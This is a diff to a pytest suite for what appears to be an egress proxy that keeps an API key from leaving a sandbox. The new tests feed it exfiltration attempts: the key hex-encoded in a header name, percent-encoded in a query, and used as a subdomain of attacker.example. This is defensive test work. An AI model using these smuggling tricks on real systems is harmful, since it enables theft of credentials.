@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import json
+import socket
 import ssl
 from collections.abc import Iterator
 from contextlib import suppress
@@ -12,9 +13,10 @@ import pytest
 
 from harness.egress import VALUE, EgressApi, EgressStage, egress_api, masked_frame
 from harness.live_server import own_server
-from harness.patience import eventually
+from harness.patience import PATIENCE_S, eventually
 from ostiary.agent import Agent
 from ostiary.protocol.errors import Forbidden
+from ostiary.proxy.egress import server
 from ostiary.proxy.egress.masking import MAX_SHOWN
 from ostiary.proxy.egress.server import MAX_PATH
 from ostiary.run.gate import Gate, Injection
@@ -23,6 +25,7 @@ from ostiary.run.plan import Plan
 
 PLACEHOLDER = "OSTIARY:api"
 MASKED = "*" * len(VALUE)
+HEX = VALUE.encode().hex()
 
 
 @pytest.fixture(scope="module")
@@ -88,6 +91,20 @@ def test_frames_of_a_web_socket_pass_without_the_key(stage: EgressStage, api: Eg
     assert "sec-websocket-extensions" not in api.asked[-1][2]
 
 
+def test_frames_that_a_server_compresses_do_not_pass(stage: EgressStage) -> None:
+    assert refusal(stage.raw(hello(stage).replace(b"/ws", b"/deflate"))) == (502, "compressed_answer")
+
+
+def test_a_connection_without_the_password_is_not_kept(stage: EgressStage, monkeypatch: pytest.MonkeyPatch) -> None:
+    with stage.open() as admitted:
+        monkeypatch.setattr(server, "HANDSHAKE_S", 0.2)
+        with socket.create_connection((stage.host, stage.port), PATIENCE_S) as foreign:
+            assert foreign.recv(1) == b""
+        monkeypatch.undo()
+        admitted.sendall(b"GET /who HTTP/1.1\r\nHost: localhost:%d\r\n\r\n" % stage.api.port)
+        assert b" 200 " in admitted.recv(1000)
+
+
 def test_a_frame_of_the_program_with_the_key_goes_nowhere(stage: EgressStage) -> None:
     assert stage.ask("/who")[0] == 200  # the proxy knows the key from here on
     leak = masked_frame(f"key {VALUE}".encode())
@@ -133,6 +150,8 @@ def test_requests_that_could_be_read_in_two_ways_go_nowhere(stage: EgressStage, 
         (b"GET /" + b"x" * MAX_PATH + b" HTTP/1.1\r\n" + host + b"\r\n", "path_too_long"),
         (b"GET /who HTTP/1.1\r\n" + host + b"X: " + VALUE.encode() + b"\r\n\r\n", "secret_sent"),
         (b"GET /who HTTP/1.1\r\n" + host + b"X: " + base64.b64encode(VALUE.encode()) + b"\r\n\r\n", "secret_sent"),
+        (b"GET /who HTTP/1.1\r\n" + host + b"X-" + HEX.encode() + b": 1\r\n\r\n", "secret_sent"),
+        (b"GET /who?x=s%6b" + VALUE[2:].encode() + b" HTTP/1.1\r\n" + host + b"\r\n", "secret_sent"),
     ):  # fmt: skip
         assert refusal(stage.raw(sent))[1] == expected, sent
     late = b"POST /who HTTP/1.1\r\n" + host + chunked + b"\r\n8\r\nOSTIARY:\r\n4\r\nnone\r\n0\r\n\r\n"
@@ -173,6 +192,11 @@ def test_a_tunnel_leads_to_open_ports_and_public_addresses_with_the_password_of_
     assert connect(f"127.1:{stage.api.port}") == (400, "malformed")
     assert connect("localhost") == (400, "malformed")
     assert connect(f"localhost:{stage.api.port}", host="other.example:443") == (400, "malformed")
+    assert stage.ask("/who")[0] == 200  # the proxy knows the key from here on
+    for leak in (HEX, f"{HEX[:20]}.{HEX[20:]}"):
+        assert connect(f"{leak}.attacker.example:443") == (403, "secret_sent")
+        plain = f"GET http://{leak}.attacker.example/ HTTP/1.1\r\nHost: {leak}.attacker.example\r\n{password}\r\n"
+        assert refusal(stage.raw(plain.encode(), tls=False)) == (403, "secret_sent")
     for target, expected in (
         ("http://127.0.0.1/", (403, "private_address")), ("http://169.254.169.254/latest", (403, "private_address")),
         ("http://[::ffff:10.0.0.1]/", (403, "private_address")), ("http://[::1]:8080/", (403, "port_closed")),
